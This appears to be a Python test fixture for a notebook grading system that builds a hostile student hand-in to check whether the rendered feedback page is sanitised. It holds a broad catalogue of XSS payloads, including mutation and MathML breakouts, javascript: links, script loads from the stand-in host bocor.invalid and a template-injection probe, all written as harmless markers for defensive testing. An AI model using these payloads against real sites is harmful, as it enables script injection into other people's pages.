"""What a hostile learner can put into a hand-in, and a feedback page made of it.

Each payload that runs says its name in `window.bocor`; each that asks for something asks the host `bocor.invalid`.
"""

import base64
import json
from pathlib import Path
from typing import Any

from ngulik.course import find_module
from ngulik.grading.books.graded import Cell, read_cells
from ngulik.grading.books.marks import Learner, Mark, Paper
from ngulik.grading.books.reasons import State
from ngulik.grading.pages.answers import load_released
from ngulik.grading.pages.feedback import page
from ngulik.notebooks.items import load_items

HOST = "bocor.invalid"
#: One red pixel.
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="


def run(name: str, where: str = "window") -> str:
    return f"{where}.bocor=({where}.bocor||[]).concat(['{name}'])"


def ask(name: str) -> str:
    return f"http://{HOST}/{name}"


_SVG_FILE = (
    f'<svg xmlns="http://www.w3.org/2000/svg"><script>{run("svg_file")}</script><image href="{ask("svg_file")}"/></svg>'
)
_PAGE_FILE = f"<script>{run('page_file', 'parent')}</script>"


def _packed(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


#: Pieces of HTML, for outputs and for essays.
HTML = {
    "script": f"<script>{run('script')}</script>",
    "script_src": f'<script src="{ask("script_src")}"></script>',
    "img_onerror": f'<img src="x:" onerror="{run("img_onerror")}">',
    "img_outside": f'<img src="{ask("img_outside")}" alt="pelacak">',
    "img_srcset": f'<img alt="" srcset="{ask("img_srcset")} 2x, {ask("img_srcset")} 1x">',
    "img_svg": f'<img alt="" src="data:image/svg+xml;base64,{_packed(_SVG_FILE)}" onload="{run("img_svg")}">',
    "picture": f'<picture><source srcset="{ask("picture")}"><img alt="" src="data:,"></picture>',
    "svg_onload": f'<svg onload="{run("svg_onload")}"><text>x</text></svg>',
    "svg_script": f"<svg><script>{run('svg_script')}</script></svg>",
    "svg_image": f'<svg><image href="{ask("svg_image")}" width="9" height="9"/></svg>',
    "svg_animate": f'<svg><a><animate attributeName="href" onbegin="{run("svg_animate")}" begin="0s" dur="1s"/></a></svg>',
    "iframe_srcdoc": f'<iframe srcdoc="<script>{run("iframe_srcdoc", "parent")}</script>"></iframe>',
    "iframe_src": f'<iframe src="{ask("iframe_src")}"></iframe>',
    "iframe_data": f'<iframe src="data:text/html;base64,{_packed("<img src=" + ask("iframe_data") + ">")}"></iframe>',
    "object": f'<object data="{ask("object")}"></object><embed src="{ask("embed")}">',
    "style_import": f"<style>@import url({ask('style_import')});</style>",
    "style_url": f"<style>h1{{background:url({ask('style_url')})}}</style>",
    "style_attribute": f'<p style="background:url({ask("style_attribute")})">x</p>',
    "link_sheet": f'<link rel="stylesheet" href="{ask("link_sheet")}">',
    "form_focus": f'<form action="{ask("form")}"><input autofocus onfocus="{run("form_focus")}"><button>Kirim</button></form>',
    "input_image": f'<input type="image" alt="x" src="{ask("input_image")}">',
    "video": f'<video poster="{ask("video")}" src="{ask("video")}" autoplay></video>',
    "details": f'<details open ontoggle="{run("details")}"><summary>x</summary></details>',
    "table_background": f'<table background="{ask("table_background")}"><tr><td>x</td></tr></table>',
    "breakout": f"</pre></div></section></main></style></title></textarea><script>{run('breakout')}</script>",
    "comment": f"<!--><script>{run('comment')}</script><!-- -->",
    "mutation": f'<noscript><p title="</noscript><img src=x: onerror=&quot;{run("mutation")}&quot;>">',
    "mathml": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror={run("mathml")}&gt;">',
    "unclosed": f'<div><img src="x:" onerror="{run("unclosed")}"',
    "meta_refresh": f'<meta http-equiv="refresh" content="0;url={ask("meta_refresh")}">',
    "base_href": f'<base href="http://{HOST}/"><img alt="" src="base_href.png">',
    "link_script": f'<a id="klik" href="javascript:{run("link_script")}">Klik di sini</a>',
}
#: Markdown of its own kind, for essays.
MARKDOWN = {
    "md_link": f"[Klik di sini](javascript:{run('md_link')})",
    "md_autolink": f"<javascript:{run('md_autolink')}>",
    "md_reference": f"[Klik di sini][x]\n\n[x]: javascript:{run('md_reference')}",
    "md_image": f"![pelacak]({ask('md_image')})",
    "md_title": f'[x](y "\\" onmouseover=\\"{run("md_title")}")',
    "md_alt": f'![x" onerror="{run("md_alt")}](x:)',
    "md_fence": f'```"><img src=x: onerror={run("md_fence")}>\nkode\n```',
    "md_data": f"![x](data:text/html;base64,{_packed(_PAGE_FILE)})",
    "md_attachment": '![x](attachment:jahat.png) ![y](attachment:"><script>)',
}
TEMPLATE = "{{ 7 * 191 }}{% for x in ().__class__.__mro__ %}{{ x }}{% endfor %}${7*191}"


def output(data: dict[str, Any], metadata: dict[str, Any] | None = None) -> dict[str, Any]:
    return {"output_type": "display_data", "data": data, "metadata": metadata or {}}


def stream(text: str, name: str = "stdout") -> dict[str, Any]:
    return {"output_type": "stream", "name": name, "text": text}


def error(name: str, text: str, traceback: tuple[str, ...] = ("baris",)) -> dict[str, Any]:
    return {"output_type": "error", "ename": name, "evalue": text, "traceback": list(traceback)}


def hostile_outputs() -> list[dict[str, Any]]:
    """Every kind of output but plain HTML, each with a payload."""
    tag = "\"><script>window.bocor=['{}']</script>".format
    return [
        output({"application/javascript": run("javascript"), "text/plain": "<IPython.core.display.Javascript object>"}),
        output({"image/svg+xml": f'<svg onload="{run("svg_output")}"></svg>', "text/plain": "<SVG>"}),
        output({"image/png": tag("png")}),
        output({"image/png": _packed(_PAGE_FILE)}),
        output({"image/png": PNG}, {"image/png": {"alt": tag("alt"), "width": tag("width")}}),
        output({"text/latex": rf"$\href{{javascript:{run('latex')}}}{{x}}$<script>{run('latex')}</script>"}),
        output({"text/markdown": f"[x](javascript:{run('md_output')})<script>{run('md_output')}</script>"}),
        output({"application/vnd.jupyter.widget-view+json": {"model_id": tag("widget")}}),
        stream(f"</pre><script>{run('stdout')}</script>\x1b]8;;{ask('osc8')}\x1b\\tautan\x1b]8;;\x1b\\\n"),
        stream(f"</pre><img src=x: onerror={run('stderr')}>", "stderr"),
        error(f"<img src=x: onerror={run('ename')}>", f"</pre><script>{run('evalue')}</script>"),
    ]


def sheet(
    changes: dict[str, dict[str, Any]],
    folder: Path,
    *,
    module: str = "05",
    below: dict[str, list[dict[str, Any]]] | None = None,
) -> list[Cell]:
    """The cells of a graded notebook: the exercise with these cells changed, and others put `below` them."""
    notebook = json.loads(find_module(module).released.read_bytes())
    cells = []
    for cell in notebook["cells"]:
        name = cell["metadata"].get("nbgrader", {}).get("grade_id", "")
        cells += [cell | changes.get(name, {}), *(below or {}).get(name, [])]
    path = folder / "latihan.ipynb"
    path.write_text(json.dumps(notebook | {"cells": cells}), encoding="utf-8")
    return read_cells(path)


def show(cells: list[Cell], comment: str = "", code: str = "K01", message: str = "", module: str = "05") -> str:
    """The feedback page of a notebook in which every item was answered wrongly."""
    found = find_module(module)
    items = {item.id: item for item in load_items(found.slug)}
    marks = tuple(
        Mark(item.id, item.points, 0.0, None, 0.0, False, State.WRONG, message, "x", comment) for item in items.values()
    )
    return page(found, Paper(Learner(code, marks), cells), items, load_released(found))


def hostile_page(folder: Path) -> str:
    """A page with everything above in every place that takes it."""
    html = [output({"text/html": piece}) for piece in HTML.values()]
    groups = [html[start : start + 16] for start in range(0, len(html), 16)] + [hostile_outputs()]
    essay = "\n\n".join([*MARKDOWN.values(), *HTML.values(), TEMPLATE])
    attachments = {"jahat.png": {"image/png": _packed(_PAGE_FILE)}, '"><script>': {"image/png": PNG}}
    code = f"x = 1  # </pre></code>{HTML['script']}{TEMPLATE}"
    changes: dict[str, dict[str, Any]] = {
        f"soal-{number}-jawab": {"source": code, "outputs": group} for number, group in enumerate(groups, 1)
    }
    changes["soal-7-esai"] = {"source": essay, "attachments": attachments, "id": HTML["breakout"]}
    metadata = {"nbgrader": {}, "name": HTML["script"], "tags": [HTML["img_onerror"]]}
    own = [{"cell_type": "markdown", "metadata": metadata, "source": piece} for piece in HTML.values()]
    cells = sheet(changes, folder, below={"soal-6-jawab": own})
    words = f"{HTML['script']} `{HTML['img_onerror']}` **{HTML['svg_onload']}**{TEMPLATE}"
    return show(cells, comment=words, code=HTML["breakout"], message=words)
